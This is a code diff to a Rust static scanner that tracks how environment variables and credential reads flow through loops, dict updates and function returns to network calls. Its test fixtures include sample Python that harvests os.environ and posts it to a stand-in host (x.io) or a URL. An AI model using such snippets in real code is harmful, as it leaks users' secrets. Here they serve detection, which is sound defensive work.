@@ -28,6 +28,18 @@ static CRED_SOURCE: LazyLock<Regex> = LazyLock::new(|| {
 static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"^\s*(?:(?:const|let|var|export|local)\s+)?([A-Za-z_$][\w$]*)\s*(?::\s*[\w\[\], |]+)?\s*(?:\+|\|\|)?=\s*([^=].*)$"#).unwrap()
 });
+/// `for k, v in <expr>:` (Python) and `for (const x of <expr>)` (JavaScript).
+static FOR_LOOP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"^\s*for\s*\(?\s*(?:const|let|var)?\s*\[?([A-Za-z_$][\w$]*)(?:\s*,\s*([A-Za-z_$][\w$]*))?\]?\s+(?:in|of)\s+(.+?)\)?\s*[:{]?\s*$"#).unwrap()
+});
+/// `name[...] = v`, `name.attr = v`, `name.append(v)`, `name.update(v)`, `name.push(v)`.
+static MUTATE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"^\s*([A-Za-z_$][\w$]*)(?:\[[^\]]*\]|\.[A-Za-z_$][\w$]*)\s*(?:=\s*([^=].*)|\((.*)\)\s*;?)$"#).unwrap()
+});
+static DEF: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"^\s*(?:async\s+)?(?:def|function)\s+([A-Za-z_$][\w$]*)\s*\("#).unwrap()
+});
+static RETURN: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"^\s*return\s+(.+)$"#).unwrap());
 static WITH_OPEN: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r#"with\s+open\s*\((.*)\)\s*as\s+([A-Za-z_]\w*)"#).unwrap());
 static SINK: LazyLock<Regex> = LazyLock::new(|| {
@@ -91,11 +103,69 @@ fn mentions(args: &str, names: &BTreeSet<String>) -> Option<String> {
         .cloned()
 }
 
+#[derive(Clone, Copy)]
+enum Kind {
+    Env,
+    Harvest,
+    Cred,
+}
+
 #[derive(Default)]
 struct Tainted {
     env: BTreeSet<String>,
     harvest: BTreeSet<String>,
     cred: BTreeSet<String>,
+    /// `name(` of functions that return tainted values, per kind.
+    env_calls: BTreeSet<String>,
+    harvest_calls: BTreeSet<String>,
+    cred_calls: BTreeSet<String>,
+}
+
+impl Tainted {
+    fn size(&self) -> usize {
+        self.env.len()
+            + self.harvest.len()
+            + self.cred.len()
+            + self.env_calls.len()
+            + self.harvest_calls.len()
+            + self.cred_calls.len()
+    }
+
+    fn vars(&mut self, kind: Kind) -> &mut BTreeSet<String> {
+        match kind {
+            Kind::Env => &mut self.env,
+            Kind::Harvest => &mut self.harvest,
+            Kind::Cred => &mut self.cred,
+        }
+    }
+
+    fn calls(&mut self, kind: Kind) -> &mut BTreeSet<String> {
+        match kind {
+            Kind::Env => &mut self.env_calls,
+            Kind::Harvest => &mut self.harvest_calls,
+            Kind::Cred => &mut self.cred_calls,
+        }
+    }
+
+    /// The strongest taint an expression carries, if any.
+    fn kind_of(&self, expr: &str) -> Option<Kind> {
+        let calls = |set: &BTreeSet<String>| set.iter().any(|f| expr.contains(f.as_str()));
+        if ENV_HARVEST.is_match(expr)
+            || mentions(expr, &self.harvest).is_some()
+            || calls(&self.harvest_calls)
+        {
+            Some(Kind::Harvest)
+        } else if mentions(expr, &self.cred).is_some() || calls(&self.cred_calls) {
+            Some(Kind::Cred)
+        } else if ENV_SOURCE.is_match(expr)
+            || mentions(expr, &self.env).is_some()
+            || calls(&self.env_calls)
+        {
+            Some(Kind::Env)
+        } else {
+            None
+        }
+    }
 }
 
 pub fn scan(
@@ -112,8 +182,42 @@ pub fn scan(
     let lines: Vec<&str> = text.lines().collect();
     // Propagate through assignments until nothing changes (bounded: taint only grows).
     for _ in 0..4 {
-        let before = t.env.len() + t.harvest.len() + t.cred.len();
+        let before = t.size();
+        let mut function: Option<String> = None;
         for line in &lines {
+            if let Some(c) = DEF.captures(line) {
+                function = Some(c[1].to_owned());
+            }
+            // A function returning a tainted value taints its calls (`secrets = harvest()`).
+            if let (Some(name), Some(c)) = (&function, RETURN.captures(line)) {
+                let kind = t.kind_of(&c[1]);
+                if let Some(kind) = kind {
+                    t.calls(kind).insert(format!("{name}("));
+                }
+            }
+            // Loop variables over the environment or a tainted collection.
+            if let Some(c) = FOR_LOOP.captures(line) {
+                let iter = &c[3];
+                let kind = if iter.contains("os.environ") || iter.contains("process.env") {
+                    Some(Kind::Harvest)
+                } else {
+                    t.kind_of(iter)
+                };
+                if let Some(kind) = kind {
+                    let vars = [
+                        Some(c[1].to_owned()),
+                        c.get(2).map(|m| m.as_str().to_owned()),
+                    ];
+                    t.vars(kind).extend(vars.into_iter().flatten());
+                }
+            }
+            // `found[key] = value`, `items.append(value)`: the container becomes tainted.
+            if let Some(c) = MUTATE.captures(line) {
+                let rhs = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
+                if let Some(kind) = t.kind_of(rhs) {
+                    t.vars(kind).insert(c[1].to_owned());
+                }
+            }
             if let Some(c) = WITH_OPEN.captures(line)
                 && (CRED_SOURCE.is_match(&c[1]) || mentions(&c[1], &t.cred).is_some())
             {
@@ -123,21 +227,18 @@ pub fn scan(
                 continue;
             };
             let (name, rhs) = (c[1].to_owned(), &c[2]);
-            if ENV_HARVEST.is_match(rhs) || mentions(rhs, &t.harvest).is_some() {
-                t.harvest.insert(name);
-            } else if CRED_SOURCE.is_match(rhs)
+            let reads_credentials = CRED_SOURCE.is_match(rhs)
                 && (rhs.contains("open")
                     || rhs.contains("read")
                     || rhs.contains("Path")
-                    || rhs.contains("join"))
-                || mentions(rhs, &t.cred).is_some()
-            {
+                    || rhs.contains("join"));
+            if reads_credentials {
                 t.cred.insert(name);
-            } else if ENV_SOURCE.is_match(rhs) || mentions(rhs, &t.env).is_some() {
-                t.env.insert(name);
+            } else if let Some(kind) = t.kind_of(rhs) {
+                t.vars(kind).insert(name);
             }
         }
-        if t.env.len() + t.harvest.len() + t.cred.len() == before {
+        if t.size() == before {
             break;
         }
     }
@@ -316,6 +417,14 @@ mod tests {
                 &[]
             ),
             [("TAINT-003".to_owned(), Severity::High)]
+        );
+        // Through a loop over the environment, a dict filled item by item, a function's return.
+        assert_eq!(
+            run(
+                "def harvest():\n    found = {}\n    for key, value in os.environ.items():\n        found[key] = value\n    return found\n\ndef send():\n    secrets = harvest()\n    payload = {'env': secrets}\n    requests.post('https://x.io', json=payload)\n",
+                &[]
+            ),
+            [("TAINT-001".to_owned(), Severity::Critical)]
         );
         assert_eq!(
             run("requests.post(URL, data=dict(os.environ))\n", &[]),
